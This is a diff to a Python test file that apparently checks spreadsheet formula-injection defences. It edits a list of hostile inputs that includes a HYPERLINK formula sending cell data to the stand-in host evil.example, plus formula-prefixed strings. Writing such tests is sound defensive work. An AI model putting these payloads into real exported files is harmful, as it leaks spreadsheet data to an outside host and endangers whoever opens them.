@@ -18,7 +18,7 @@ from tests.services.runs_support import Person, ctx, people, setup, sim
 
 __all__ = ["ctx", "sim"]  # fixtures
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)"]
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&x,"click")', "+1+2", "-2+3", "@SUM(x)"]
 
 
 @pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
